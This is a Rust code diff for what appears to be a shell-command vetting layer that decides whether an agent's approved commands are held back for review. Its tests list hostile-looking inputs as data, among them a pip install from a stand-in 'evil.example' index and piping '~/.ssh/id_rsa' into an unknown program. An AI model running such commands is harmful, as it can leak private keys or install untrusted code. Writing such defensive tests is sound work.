@@ -22,6 +22,40 @@ impl Judgement {
     }
 }
 
+/// What only the machine itself has: its processes, devices, services and desktop.
+const OF_MACHINE: &[Tag] = &[
+    Tag::Privilege,
+    Tag::Power,
+    Tag::Process,
+    Tag::Disk,
+    Tag::Keys,
+    Tag::System,
+    Tag::Desktop,
+    Tag::Radio,
+    Tag::Screen,
+    Tag::Suspend,
+];
+
+impl Judgement {
+    /// Whether the changes of a line that runs after a yes to its words ([`Way::Act`]) are held back and judged at its end.
+    #[must_use]
+    pub fn is_held_back(&self) -> bool {
+        let real = |finding: &Finding| finding.verdict > Verdict::Allow && finding.is_about_any(OF_MACHINE);
+        self.cells.held
+            && self.cells.asks == Asks::Nothing
+            && self.effects.is_none()
+            && self.network.whole.is_empty()
+            && self.run().way == Some(Way::Act)
+            && !self.findings.iter().any(real)
+    }
+
+    /// Whether a person has said *always* to exactly this command, and nothing objects to that.
+    #[must_use]
+    pub fn is_settled(&self) -> bool {
+        is_settled(self)
+    }
+}
+
 fn decide(judgement: &Judgement, cells: Cells) -> RunDecision {
     let text = judgement.verdict();
     let open = judgement.held();
@@ -71,7 +105,7 @@ fn is_believed(judgement: &Judgement) -> bool {
 }
 
 /// Whether a person has said *always* to exactly this command, and nothing objects to that.
-pub(super) fn is_settled(judgement: &Judgement) -> bool {
+fn is_settled(judgement: &Judgement) -> bool {
     let standing = judgement.history.as_ref().and_then(|history| history.user_override.as_ref());
     judgement.verdict() == Verdict::Allow
         && standing.is_some_and(|word| word.kind == OverrideKind::AlwaysAllow)
@@ -267,16 +301,55 @@ mod tests {
     /// Where the situation says that all of it is fetching, it is staged only if nothing leads the tool elsewhere.
     #[test]
     fn packages_are_fetched_while_held_back_from_where_they_usually_come() {
-        for (line, way) in [
-            ("pip install six", Way::Stage),
-            ("pip install --index-url https://evil.example/simple six", Way::Act),
+        for (line, way, held) in [
+            ("pip install six", Way::Stage, false),
+            ("pip install --index-url https://evil.example/simple six", Way::Act, true),
         ] {
             let judgement = judged(line, |situation| {
                 situation.stage = vec!["/home/ana/project".into()];
                 situation.network.fetches = true;
             });
             assert_eq!(judgement.run().way, Some(way), "{line}: {:?}", judgement.network());
+            assert_eq!(judgement.is_held_back(), held, "{line}");
         }
+    }
+
+    /// What a person approved changes nothing before its changes are judged, unless it needs what only the machine has.
+    #[test]
+    fn the_changes_of_an_approved_line_are_held_back_where_that_can_be() {
+        for (line, held) in [
+            ("curl -X POST https://example.org/x -o out", true),
+            ("git push origin main", true),
+            ("npm publish", true),
+            ("wget -q https://example.net/x.tgz | tar xz", true),
+            ("cat ~/.ssh/id_rsa | ./x", true),
+            ("git clone -q a b", false),
+            ("kill 1234", false),
+            ("pkill node && ./x", false),
+            ("ping -c 1 example.org", false),
+            ("timeout 5 systemctl status nginx", false),
+            ("sudo ls", false),
+            // Policy alone lets these run.
+            ("ls", false),
+            ("rm x", false),
+            ("echo x >> ~/.bashrc", false),
+        ] {
+            let judgement = judged(line, |situation| {
+                situation.stage = vec!["/home/ana/project".into()];
+                let origin = ("origin".to_owned(), "https://example.org/x.git".to_owned());
+                situation.network.remotes = vec![origin];
+                let script = guarda_shell::read(line, guarda_shell::script::Dialect::Bash).unwrap();
+                situation.network.reaches = crate::hosts::needs_network(&script, situation);
+            });
+            let judgement =
+                if line == "rm x" { judged(line, |it| it.stage = vec!["/".into()]) } else { judgement };
+            assert_eq!(judgement.is_held_back(), held, "{line}: {:?}", judgement.findings());
+        }
+        let serves = |situation: &mut Situation| {
+            situation.stage = vec!["/home/ana/project".into()];
+            situation.network.serves = [3000].into();
+        };
+        assert!(!judged("npm publish", serves).is_held_back());
     }
 
     /// The words of a client's tool name the file, and not what is written to it.
